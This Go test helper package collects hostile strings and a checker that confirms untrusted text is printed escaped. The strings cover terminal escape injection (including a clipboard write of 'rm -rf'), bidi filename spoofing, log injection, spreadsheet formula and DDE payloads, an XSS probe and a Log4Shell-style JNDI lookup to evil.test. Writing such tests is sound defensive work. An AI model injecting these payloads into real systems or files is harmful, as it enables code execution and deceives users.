// Package hostiletest answers one question: what would a hostile site have us print? It has texts that do harm when
// they are shown, logged or opened unescaped, and a check of what was printed. Tests put the texts wherever a site
// chooses one: names, response heads, files, certificates, error texts.
package hostiletest

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// Text is a hostile text.
type Text struct {
	Name string
	Text string
}

// Mark follows the hostile part of each text. Tests look for it to see that the text was reported.
const Mark = "MARK"

// Texts are the hostile texts, the long ones last. All but those that Binary reports are valid UTF-8.
func Texts() []Text {
	return []Text{
		{"colour", "\x1b[31m" + Mark},
		{"clear the screen", "\x1b[2J\x1b[H" + Mark},
		{"title", "\x1b]0;pwned\x07" + Mark},
		{"link", "\x1b]8;;http://evil.test/\x1b\\" + Mark + "\x1b]8;;\x1b\\"},
		{"clipboard", "\x1b]52;c;cm0gLXJm\x07" + Mark},
		{"answer back", "\x1b[6n\x05\x1bP$q\"p\x1b\\" + Mark},
		{"C1 as a character", "\u009b31m\u009d0;pwned\u009c" + Mark},
		{"C1 as a byte", "\x9b31m\x9d0;pwned\x9c" + Mark},
		{"backspaces", "safe\b\b\b\b" + Mark},
		{"DEL", "\x7f\x7f" + Mark},
		{"NUL", "\x00" + Mark + "\x00"},
		{"bell and shift", "\x07\x0e\x0f" + Mark},
		{"right to left", "\u202e" + Mark + "gpj.exe"},
		{"isolates", "\u2066\u2067\u2068" + Mark + "\u2069"},
		{"marks of direction", "\u200e\u200f\u061c" + Mark},
		{"zero width", "\u200b\u200c\u200d\u2060\ufeff" + Mark},
		{"invisible letters", "\u115f\u3164\uffa0" + Mark},
		{"variation selectors", "\ufe0f\U000e0100" + Mark},
		{"tags", "\U000e0041\U000e007f" + Mark},
		{"private and unassigned", "\ue000\U0010ffff\u0378" + Mark},
		{"not a character", "\ufffe\uffff" + Mark},
		{"line separators", "\u0085\u2028\u2029" + Mark},
		{"lone surrogate", "\xed\xa0\x80" + Mark},
		{"overlong", "\xc0\x80\xe0\x80\x9b" + Mark},
		{"torn", "\xe2\x82" + Mark + "\xf0\x9f"},
		{"log in text", Mark + "\ntime=2026-11-21T00:00:00Z level=INFO msg=done kept=1000000"},
		{"log in JSON", Mark + "\"}\r\n{\"level\":\"INFO\",\"msg\":\"done\"}"},
		{"carriage return", "failed: no such host\rok " + Mark},
		{"formula", "=HYPERLINK(\"http://evil.test/\",\"" + Mark + "\")"},
		{"formula by sign", "+1+cmd|' /C calc'!A0 " + Mark},
		{"formula by minus", "-2+3+" + Mark},
		{"formula by at", "@SUM(1+1)*" + Mark},
		{"formula behind a tab", "\t=1+1 " + Mark},
		{"formula behind a return", "\r=1+1 " + Mark},
		{"markup", "<script>alert(1)</script><!--" + Mark},
		{"directives", "%s%n%d{{.}}${jndi:ldap://evil.test/" + Mark + "}"},
		{"piled marks", "Z" + strings.Repeat("\u0301\u0489", 40) + Mark},
		{"long", Mark + strings.Repeat("x", 100_000)},
		{"long and hostile", Mark + strings.Repeat("\x1b[7m\u202e\x9b", 12_500)},
		{"long and wide", Mark + strings.Repeat("\U0001f4a9", 25_000)},
	}
}

// Robots is a robots.txt with control sequences in every field: to colour, to clear the screen, to reverse the reading
// order, to end a string, to ring.
const Robots = "User-agent: evil\x1b[31mbot\nDisallow: /\x1b]0;owned\x07\n\nUser-agent: *\nDisallow: /\u202egnp.exe\n" +
	"Sitemap: https://a.test/\x1b[2J\u2066x\nUn\x00known: \x00\u009b31mvalue\nLicense: \u202eevil\nContent-Signal: ai-train=no\x9b\n"

// Binary reports whether a text is invalid UTF-8.
func (t Text) Binary() bool { return !utf8.ValidString(t.Text) }

// All joins the texts that fit into a line. Line ends are kept, and the long texts are left out.
func All() string {
	var b strings.Builder
	for _, t := range Texts() {
		if len(t.Text) < 1000 {
			b.WriteString(t.Text + " ")
		}
	}
	return b.String()
}

// Lines is All without line ends and NUL, for places that cannot hold them.
func Lines() string {
	return strings.NewReplacer("\n", "", "\r", "", "\x00", "").Replace(All())
}

// Check checks printed text: it is valid UTF-8 in lines of bounded length, and a terminal shows every character in its
// place.
func Check(tb testing.TB, what string, printed []byte, longest int) {
	tb.Helper()
	for line := range strings.Lines(string(printed)) {
		line = strings.TrimSuffix(line, "\n")
		if len(line) > longest {
			tb.Errorf("%s: a line of %d bytes, more than %d: %.200q…", what, len(line), longest, line)
		}
		if bad := find(line); bad != "" {
			tb.Errorf("%s: %s in %.400q", what, bad, line)
			return
		}
	}
}

// find names the first forbidden character of a line. It shares no code with the escaping, so that both cannot be wrong
// in the same way.
func find(line string) string {
	if !utf8.ValidString(line) {
		return "what is no UTF-8"
	}
	piled := 0
	for _, r := range line {
		if piled++; !unicode.In(r, unicode.M) {
			piled = 0
		}
		switch {
		case piled > 3:
			return fmt.Sprintf("%d marks on each other", piled)
		case r < ' ' || 0x7f <= r && r <= 0x9f:
			return fmt.Sprintf("the control %U", r)
		case 0x200b <= r && r <= 0x200f, 0x2028 <= r && r <= 0x202e, 0x2060 <= r && r <= 0x206f, r == 0x61c, r == 0xad,
			r == 0xfeff, 0xfff9 <= r && r <= 0xfffb:
			return fmt.Sprintf("the format character %U", r)
		case r == 0x115f, r == 0x1160, r == 0x3164, r == 0xffa0, 0xfe00 <= r && r <= 0xfe0f, 0xe0000 <= r && r <= 0xe0fff:
			return fmt.Sprintf("the invisible %U", r)
		case 0xe000 <= r && r <= 0xf8ff, 0xf0000 <= r, r&0xfffe == 0xfffe, !unicode.IsGraphic(r):
			return fmt.Sprintf("%U, which is nothing", r)
		}
	}
	return ""
}
